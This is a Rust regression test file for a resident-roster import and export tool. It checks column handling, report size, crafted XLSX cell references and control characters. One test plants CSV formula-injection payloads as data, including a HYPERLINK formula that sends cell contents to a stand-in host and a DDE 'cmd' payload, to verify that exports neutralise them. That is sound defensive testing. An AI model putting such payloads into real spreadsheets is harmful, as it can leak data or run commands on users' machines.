//! Regression tests for the roster defects found by trying the station as a careless user and
//! an attacker would (issue 8): each failed on the code before its fix.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::{dump, valid_id};
use nac_core::roster::{read_roster_file, Column, RosterError};
use nac_core::station::{HouseholdInput, ResidentInput};
use nac_core::{Error, Field, Station};
use rusqlite::params;
use std::io::{Read as _, Write as _};
use std::path::Path;
use tempfile::TempDir;

const HEADER: [&str; 12] = [
    "区",
    "路",
    "弄",
    "号",
    "室",
    "户联系电话",
    "姓名",
    "证件类型",
    "证件号码",
    "手机号",
    "有智能手机",
    "备注",
];

fn open(dir: &TempDir, name: &str) -> Station {
    common::import_station(dir, name)
}

fn id(seq: u32) -> String {
    valid_id("310104", "19450312", seq)
}

fn csv(rows: &[Vec<String>]) -> String {
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(Vec::new());
    for r in rows {
        w.write_record(r).unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

fn row(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|s| (*s).to_string()).collect()
}

/// Three residents with phones, notes and a smartphone flag.
fn full_rows() -> Vec<Vec<String>> {
    vec![
        row(&HEADER),
        row(&[
            "徐汇区",
            "天钥桥路",
            "100",
            "5",
            "301",
            "13912345678",
            "张桂英",
            "居民身份证",
            &id(2),
            "13600001111",
            "是",
            "独居",
        ]),
        row(&[
            "徐汇区",
            "天钥桥路",
            "100",
            "5",
            "301",
            "",
            "李建国",
            "",
            &id(3),
            "13812345678",
            "否",
            "女儿代办",
        ]),
        row(&[
            "徐汇区",
            "天钥桥路",
            "100",
            "5",
            "302",
            "",
            "王秀兰",
            "",
            &id(5),
            "",
            "",
            "",
        ]),
    ]
}

/// The residents as stored, one line each, without ids or timestamps.
fn residents(station: &Station) -> Vec<String> {
    let mut stmt = station
        .connection()
        .prepare(
            "SELECT h.road, h.room, h.phone, r.name, r.doc_number, r.phone, r.notes,
                    r.has_smartphone
             FROM residents r JOIN households h ON h.id = r.household_id ORDER BY r.doc_number",
        )
        .unwrap();
    stmt.query_map([], |r| {
        Ok((0..8)
            .map(|i| format!("{:?}", r.get::<_, rusqlite::types::Value>(i).unwrap()))
            .collect::<Vec<_>>()
            .join("|"))
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

// ------------------------------------------------ 1. a missing column wipes nothing

#[test]
fn a_file_without_the_optional_columns_leaves_stored_values_alone() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let path = dir.path().join("full.csv");
    std::fs::write(&path, csv(&full_rows())).unwrap();
    assert!(station.import_roster(&path).unwrap().errors.is_empty());
    let before = dump(station.connection());

    // Only 区,路,弄,号,室,姓名,证件类型,证件号码 — no phones, no notes, no smartphone flag.
    let keep = [0usize, 1, 2, 3, 4, 6, 7, 8];
    let narrow: Vec<Vec<String>> = full_rows()
        .iter()
        .map(|r| keep.iter().map(|&i| r[i].clone()).collect())
        .collect();
    let path = dir.path().join("narrow.csv");
    std::fs::write(&path, csv(&narrow)).unwrap();
    let report = station.import_roster(&path).unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(report.outcome.residents_updated, 0, "{:?}", report.outcome);
    assert_eq!(report.outcome.residents_unchanged, 3);
    assert_eq!(
        dump(station.connection()),
        before,
        "absent columns are not empty ones: nothing stored may change"
    );
}

#[test]
fn an_empty_cell_in_a_present_column_clears_and_the_report_says_so() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let path = dir.path().join("r.csv");
    std::fs::write(&path, csv(&full_rows())).unwrap();
    station.import_roster(&path).unwrap();

    let mut rows = full_rows();
    rows[1][9].clear(); // 张桂英's phone
    rows[2][11].clear(); // 李建国's notes
    std::fs::write(&path, csv(&rows)).unwrap();
    let report = station.import_roster(&path).unwrap();
    let c = &report.outcome.changes;
    assert_eq!(report.outcome.residents_updated, 2);
    assert_eq!((c.phone_cleared, c.notes_cleared), (1, 1), "{c:?}");
    assert_eq!((c.phone_changed, c.notes_changed, c.smartphone), (0, 0, 0));
    let stored = residents(&station);
    assert!(stored[0].contains("\"张桂英\"") && stored[0].contains("|Null|"));
}

// ------------------------------------------------ 1b. exported edits come back

/// The spreadsheet editor a volunteer would use: Python's csv module and openpyxl.
fn python() -> Option<&'static str> {
    ["/usr/bin/python3", "python3"].into_iter().find(|p| {
        std::process::Command::new(p)
            .args(["-c", "import openpyxl"])
            .output()
            .is_ok_and(|o| o.status.success())
    })
}

const EDIT_SCRIPT: &str = r#"
import csv, sys
path, kind = sys.argv[1], sys.argv[2]
def edit(rows):
    head = rows[0]
    col = {h: i for i, h in enumerate(head)}
    for r in rows[1:]:
        name = r[col["姓名"]]
        if name == "王秀兰":
            r[col["有智能手机"]] = "是"
        if name == "李建国":
            r[col["手机号"]] = "13955556666"
        if name == "张桂英":
            r[col["备注"]] = "=独居，需上门"
    return rows
if kind == "csv":
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = edit(list(csv.reader(f)))
    with open(path, "w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows(rows)
else:
    import openpyxl
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    rows = [[("" if c.value is None else str(c.value)) for c in r] for r in ws.iter_rows()]
    rows = edit(rows)
    for i, r in enumerate(rows[1:], start=2):
        for j, v in enumerate(r, start=1):
            cell = ws.cell(row=i, column=j)
            if v != ("" if cell.value is None else str(cell.value)):
                cell.value = v
                cell.data_type = "s"
    wb.save(path)
"#;

#[test]
fn edits_made_in_an_exported_file_come_back_and_nothing_else_changes() {
    let Some(python) = python() else {
        assert!(
            std::env::var("CI").is_err(),
            "CI must have python3 with openpyxl (scripts/setup.sh installs python3-openpyxl)"
        );
        eprintln!("skipped: python3 with openpyxl not found");
        return;
    };
    for ext in ["csv", "xlsx"] {
        let dir = TempDir::new().unwrap();
        let mut station = open(&dir, "s.db");
        let seed = dir.path().join("seed.csv");
        std::fs::write(&seed, csv(&full_rows())).unwrap();
        station.import_roster(&seed).unwrap();
        let mut expected = residents(&station);

        let path = dir.path().join(format!("export.{ext}"));
        station.export_roster(&path, true).unwrap();
        let status = std::process::Command::new(python)
            .args(["-c", EDIT_SCRIPT, path.to_str().unwrap(), ext])
            .status()
            .unwrap();
        assert!(status.success(), "{ext}: the edit script failed");

        let report = station.import_roster(&path).unwrap();
        assert!(report.errors.is_empty(), "{ext}: {:?}", report.errors);
        let c = &report.outcome.changes;
        assert_eq!(report.outcome.residents_updated, 3, "{ext}: {c:?}");
        assert_eq!(
            (c.smartphone, c.phone_changed, c.notes_changed),
            (1, 1, 1),
            "{ext}"
        );
        assert_eq!(
            (c.phone_cleared, c.notes_cleared, c.moved, c.name),
            (0, 0, 0, 0)
        );
        // Exactly those three edits: 张桂英 (id 2) notes, 李建国 (id 3) phone, 王秀兰 (id 5) flag.
        expected[0] = expected[0].replace("\"独居\"", "\"=独居，需上门\"");
        expected[1] = expected[1].replace("13812345678", "13955556666");
        assert!(expected[2].ends_with("|Integer(0)"));
        expected[2] = expected[2].replace("|Integer(0)", "|Integer(1)");
        assert_eq!(residents(&station), expected, "{ext}");
    }
}

// ------------------------------------------------ 2. duplicate reports stay linear

#[test]
fn a_document_on_thousands_of_rows_gives_a_report_linear_in_the_rows() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let n = 4_000;
    let mut rows = vec![row(&HEADER)];
    for i in 0..n {
        let room = (i + 1).to_string();
        rows.push(row(&[
            "徐汇区",
            "天钥桥路",
            "100",
            "5",
            &room,
            "",
            "张三",
            "",
            &id(7),
            "",
            "",
            "",
        ]));
    }
    let path = dir.path().join("dups.csv");
    std::fs::write(&path, csv(&rows)).unwrap();
    let before = dump(station.connection());
    let report = station.import_roster(&path).unwrap();
    assert_eq!(report.rows_rejected(), n);
    let json = serde_json::to_string(&report).unwrap();
    assert!(
        json.len() < n * 400,
        "the report must grow linearly: {} bytes for {n} rows",
        json.len()
    );
    let first = &report.errors[0];
    assert_eq!(first.field, Column::DocumentNumber);
    assert!(
        first.message.contains("3、4、5、6、7等共3999行")
            && first.message.contains("and 3994 more"),
        "names a few partners, then counts: {}",
        first.message
    );
    assert_eq!(dump(station.connection()), before);
}

#[test]
fn one_household_with_many_phones_gives_a_report_linear_in_the_rows() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let n = 3_000u32;
    let mut rows = vec![row(&HEADER)];
    for i in 0..n {
        let phone = format!("139{:08}", i);
        let region = ["310104", "310105", "310106"][(i / 1000) as usize];
        let doc = valid_id(region, "19500101", i % 1000);
        rows.push(row(&[
            "徐汇区",
            "天钥桥路",
            "100",
            "5",
            "301",
            &phone,
            "张三",
            "",
            &doc,
            "",
            "",
            "",
        ]));
    }
    let path = dir.path().join("phones.csv");
    std::fs::write(&path, csv(&rows)).unwrap();
    let report = station.import_roster(&path).unwrap();
    let json = serde_json::to_string(&report).unwrap();
    assert!(json.len() < n as usize * 800, "{} bytes", json.len());
    let phone_errors: Vec<_> = report
        .errors
        .iter()
        .filter(|e| e.field == Column::HouseholdPhone)
        .collect();
    assert_eq!(phone_errors.len(), n as usize);
    assert!(
        phone_errors[0].message.contains("and 2994 more"),
        "{}",
        phone_errors[0].message
    );
}

// ------------------------------------------------ 3. crafted cell references

/// A real workbook whose first header cell's reference is replaced by `reference`.
fn workbook_with_reference(path: &Path, reference: &str) {
    workbook_with_replaced_reference(path, "A1", reference);
}

/// A real workbook (header and one data row) with the cell reference `from` renamed `to`.
fn workbook_with_replaced_reference(path: &Path, from: &str, reference: &str) {
    let plain = path.with_extension("plain.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in HEADER.iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for (c, v) in full_rows()[1].iter().enumerate() {
        ws.write_string(1, c as u16, v).unwrap();
    }
    wb.save(&plain).unwrap();

    let mut archive = zip::ZipArchive::new(std::fs::File::open(&plain).unwrap()).unwrap();
    let mut out = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).unwrap();
        let name = entry.name().unwrap().to_string();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        if name == "xl/worksheets/sheet1.xml" {
            let xml = String::from_utf8(bytes).unwrap();
            assert!(xml.contains(&format!("r=\"{from}\"")));
            bytes = xml
                .replacen(&format!("r=\"{from}\""), &format!("r=\"{reference}\""), 1)
                .into_bytes();
        }
        out.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        out.write_all(&bytes).unwrap();
    }
    out.finish().unwrap();
}

#[test]
fn a_cell_reference_beyond_the_sheet_is_a_file_error_not_an_abort() {
    let dir = TempDir::new().unwrap();
    for (reference, shown) in [
        ("MWLQKWU1", None),
        ("XFE1", Some("XFE1")),
        ("A1048577", Some("A1048577")),
    ] {
        let path = dir.path().join(format!("{reference}.xlsx"));
        workbook_with_reference(&path, reference);
        let err = read_roster_file(&path).unwrap_err();
        let RosterError::CellOutOfRange { reference: got } = &err else {
            panic!("{reference}: expected CellOutOfRange, got {err}");
        };
        if let Some(shown) = shown {
            assert_eq!(got, shown);
        }
        assert!(err.to_string().contains("XFD"), "{err}");
    }
    // The last cell a sheet can have is fine.
    let path = dir.path().join("edge.xlsx");
    workbook_with_reference(&path, "XFD1");
    assert!(!matches!(
        read_roster_file(&path),
        Err(RosterError::CellOutOfRange { .. })
    ));
}

#[test]
fn a_cell_that_names_an_earlier_row_is_a_file_error() {
    // Found by fuzzing: a cell of row 2 whose reference says row 1 split row 2 in three and
    // put errors on the header row.
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("out-of-order.xlsx");
    workbook_with_replaced_reference(&path, "D2", "D1");
    let err = read_roster_file(&path).unwrap_err();
    assert!(
        matches!(err, RosterError::Unreadable(_)) && err.to_string().contains("D1"),
        "{err}"
    );
}

// ------------------------------------------------ 4. CSV formula injection

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn csv_exports_neutralise_formulas_and_round_trip_exactly() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let hostile = [
        ("=HYPERLINK(\"http://x/?\"&A1)", "=cmd|'/c calc'!A1"),
        ("+1 路", "@SUM(1+1)"),
        ("-2 路", "'=already quoted"),
        ("天钥桥路", "''+two quotes"),
    ];
    for (i, (road, notes)) in hostile.iter().enumerate() {
        let hh = station
            .add_household(&HouseholdInput {
                district: "徐汇区".into(),
                road: (*road).into(),
                number: "5".into(),
                room: format!("{}", 101 + i),
                ..Default::default()
            })
            .unwrap();
        station
            .add_resident(
                hh,
                &ResidentInput {
                    name: "张三".into(),
                    document_number: id(10 + i as u32),
                    notes: (*notes).into(),
                    ..Default::default()
                },
            )
            .unwrap();
    }
    let expected = residents(&station);
    let path = dir.path().join("out.csv");
    station.export_roster(&path, true).unwrap();

    let bytes = std::fs::read(&path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    let mut cells = 0;
    for record in reader.records() {
        for field in record.unwrap().iter() {
            cells += 1;
            let digits_after_tab = field
                .strip_prefix('\t')
                .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit()));
            assert!(
                !field.starts_with(TRIGGERS) || digits_after_tab,
                "a spreadsheet would run this cell as a formula: {field:?}"
            );
        }
    }
    assert!(cells > 60);

    let mut fresh = open(&dir, "fresh.db");
    let report = fresh.import_roster(&path).unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(
        residents(&fresh),
        expected,
        "the guard quote is taken away again"
    );
}

// ------------------------------------------------ 7. control characters

#[test]
fn control_characters_are_refused_with_the_row_and_field() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let mut rows = vec![row(&HEADER)];
    let good = full_rows()[1].clone();
    let with = |col: usize, value: &str, seq: u32| {
        let mut r = good.clone();
        r[col] = value.to_string();
        r[8] = id(seq);
        r
    };
    rows.push(with(1, "天钥桥路\u{1f}100", 20)); // row 2: the key separator
    rows.push(with(6, "张\u{0}三", 21)); // row 3
    rows.push(with(11, "独居\u{85}x\u{7}", 22)); // row 4
    rows.push(with(4, "3\u{9f}01", 23)); // row 5
    rows.push(with(11, "独居\t需上门\r\n女儿代办", 24)); // row 6: fine, spaces
    let path = dir.path().join("c.csv");
    std::fs::write(&path, csv(&rows)).unwrap();
    let report = station.import_roster(&path).unwrap();
    let got: Vec<(usize, Column)> = report.errors.iter().map(|e| (e.row, e.field)).collect();
    assert_eq!(
        got,
        [
            (2, Column::Road),
            (3, Column::Name),
            (4, Column::Notes),
            (5, Column::Room)
        ]
    );
    for (e, code) in report
        .errors
        .iter()
        .zip(["U+001F", "U+0000", "U+0007", "U+009F"])
    {
        assert!(e.message.contains(code), "{}: {}", code, e.message);
    }
    assert_eq!(report.outcome.residents_added, 1);
    let notes: String = station
        .connection()
        .query_row(
            "SELECT notes FROM residents WHERE doc_number = ?1",
            params![id(24)],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(notes, "独居 需上门 女儿代办");
}

#[test]
fn control_characters_are_refused_in_forms_too() {
    let dir = TempDir::new().unwrap();
    let mut station = open(&dir, "s.db");
    let err = station
        .add_household(&HouseholdInput {
            district: "徐汇区".into(),
            road: "天钥桥路\u{1f}".into(),
            number: "5".into(),
            ..Default::default()
        })
        .unwrap_err();
    let Error::Invalid(fields) = err else {
        panic!("expected a field error, got {err}");
    };
    assert_eq!(fields[0].field, Field::Road);
    assert!(fields[0].message.contains("U+001F"));
}
